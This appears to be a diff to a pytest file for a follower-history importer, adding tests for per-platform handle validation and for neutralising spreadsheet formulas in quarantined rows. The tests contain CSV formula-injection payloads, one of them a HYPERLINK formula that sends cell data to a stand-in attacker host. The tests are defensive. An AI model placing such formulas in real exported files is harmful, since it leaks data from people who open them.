@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import json
 from datetime import date, timedelta
 from pathlib import Path
@@ -280,7 +281,7 @@ def test_clean_file_keys_are_normalised_to_the_roster_spelling(
         "account_handle,platform,date,followers\n"
         "joekaeser,X,2026-01-01,7\n"
         "JOEKAESER,x,2026-01-02,8\n"
-        "someone_else,Bluesky,2026-01-02,9\n",
+        "Joe.Bsky.Social,Bluesky,2026-01-02,9\n",
     )
 
     outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)
@@ -288,7 +289,7 @@ def test_clean_file_keys_are_normalised_to_the_roster_spelling(
     assert (outcome.rows_read, outcome.rows_loaded, outcome.errors) == (3, 3, [])
     assert outcome.platforms == ["bluesky", "x"]
     assert [row[:4] for row in imported(con)] == [
-        ("bluesky", "someone_else", date(2026, 1, 2), 9),
+        ("bluesky", "joe.bsky.social", date(2026, 1, 2), 9),
         ("x", "JoeKaeser", date(2026, 1, 1), 7),
         ("x", "JoeKaeser", date(2026, 1, 2), 8),
     ]
@@ -344,3 +345,113 @@ def test_a_rolled_back_import_leaves_no_rows_and_no_quarantine_report(
     outcome = import_history(con, path, ROSTER, quarantine, today=TODAY)
     assert outcome.rows_loaded == 3
     assert len(list(quarantine.rglob("report.json"))) == 1
+
+
+ROSTER_WITH_YOUTUBE = Roster(
+    executives=[*ROSTER.executives],
+    accounts=[*ROSTER.accounts, Account("satya", "youtube", "@LeaderTalks")],
+)
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
+
+
+def test_formula_cells_stay_raw_in_the_warehouse_and_are_neutralised_in_rejected_rows(
+    con: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    # YouTube handles start with '@': a real handle that a spreadsheet would take for a
+    # formula. The other cells are the payloads an attacker would drop into a history file.
+    path = write_csv(
+        tmp_path,
+        "executive_id,account_handle,platform,date,followers,following,posts\n"
+        ",@LeaderTalks,youtube,2026-01-01,100,,\n"
+        ",@LeaderTalks,youtube,2026-13-01,5,,\n"
+        f',"{HYPERLINK.replace(chr(34), chr(34) * 2)}",x,2026-01-02,5,,\n'
+        "@SUM(A1:A9),,x,2026-01-03,5,,\n"
+        ",JoeKaeser,x,2026-01-04,-2+3,,\n"
+        ',JoeKaeser,x,2026-01-05,5,"\t=1+1",\n'
+        ',JoeKaeser,x,2026-01-06,5,,"\r=2+2"\n'
+        ",JoeKaeser,x,2026-01-07,-5,,\n",
+    )
+
+    outcome = import_history(con, path, ROSTER_WITH_YOUTUBE, tmp_path / "q", today=TODAY)
+
+    assert imported(con) == [("youtube", "@LeaderTalks", date(2026, 1, 1), 100, None, None)]
+    assert [(e.row, e.field) for e in outcome.errors] == [
+        (3, "date"),
+        (4, "account_handle"),
+        (5, "executive_id"),
+        (6, "followers"),
+        (7, "following"),
+        (8, "posts"),
+        (9, "followers"),
+    ]
+    assert outcome.quarantine_path is not None
+    quarantine = Path(outcome.quarantine_path)
+    with (quarantine / "rejected_rows.csv").open(encoding="utf-8", newline="") as handle:
+        rejected = {int(row["line"]): row for row in csv.DictReader(handle)}
+    assert rejected[3]["account_handle"] == "'@LeaderTalks"
+    assert rejected[4]["account_handle"] == "'" + HYPERLINK
+    assert rejected[5]["executive_id"] == "'@SUM(A1:A9)"
+    assert rejected[6]["followers"] == "'-2+3"
+    assert rejected[7]["following"] == "'\t=1+1"
+    assert rejected[8]["posts"] == "'\r=2+2"
+    # A plain number is no formula: the rejected value stays readable as a number.
+    assert rejected[9]["followers"] == "-5"
+    # report.json is no spreadsheet: it names the value exactly as the file had it.
+    report = json.loads((quarantine / "report.json").read_text(encoding="utf-8"))
+    assert HYPERLINK in report["errors"][1]["message"]
+
+
+HANDLE_ROWS = [
+    ("JoeKaeser", "x", "2026-01-01", 7),
+    ("@JoeKaeser", "x", "2026-01-02", 8),
+    ("someone_else", "x", "2026-01-02", 9),
+    ("joe.bsky.social", "x", "2026-01-03", 9),
+    ("JoeKaeser", "bluesky", "2026-01-03", 1),
+    ("@Joe.Bsky.Social", "bluesky", "2026-01-04", 2),
+]
+
+
+def write_handle_rows(tmp_path: Path, suffix: str) -> Path:
+    path = tmp_path / f"handles{suffix}"
+    columns = list(zip(*HANDLE_ROWS, strict=True))
+    if suffix == ".parquet":
+        table = pa.table(
+            {
+                "account_handle": list(columns[0]),
+                "platform": list(columns[1]),
+                "date": [date.fromisoformat(d) for d in columns[2]],
+                "followers": list(columns[3]),
+            }
+        )
+        pq.write_table(table, path)
+    else:
+        lines = ["account_handle,platform,date,followers"]
+        lines += [",".join(map(str, row)) for row in HANDLE_ROWS]
+        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_a_handle_that_is_no_roster_account_of_its_platform_is_rejected(
+    con: duckdb.DuckDBPyConnection, tmp_path: Path, suffix: str
+) -> None:
+    # The clean-looking CSV takes the bulk path first, the Parquet file the checking path.
+    path = write_handle_rows(tmp_path, suffix)
+
+    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)
+
+    assert [row[:4] for row in imported(con)] == [
+        ("bluesky", "joe.bsky.social", date(2026, 1, 4), 2),
+        ("x", "JoeKaeser", date(2026, 1, 1), 7),
+        ("x", "JoeKaeser", date(2026, 1, 2), 8),
+    ]
+    assert (outcome.rows_read, outcome.rows_loaded, outcome.rows_rejected) == (6, 3, 3)
+    row_offset = 1 if suffix == ".csv" else 0
+    assert [(e.row, e.field, e.message) for e in outcome.errors] == [
+        (3 + row_offset, "account_handle", "'someone_else' is not one of the roster's x accounts"),
+        (4 + row_offset, "account_handle", "'joe.bsky.social' is not a valid x handle"),
+        (5 + row_offset, "account_handle", "'JoeKaeser' is not a valid bluesky handle"),
+    ]
+    assert outcome.quarantine_path is not None
+    report = json.loads((Path(outcome.quarantine_path) / "report.json").read_text())
+    assert [error["field"] for error in report["errors"]] == ["account_handle"] * 3
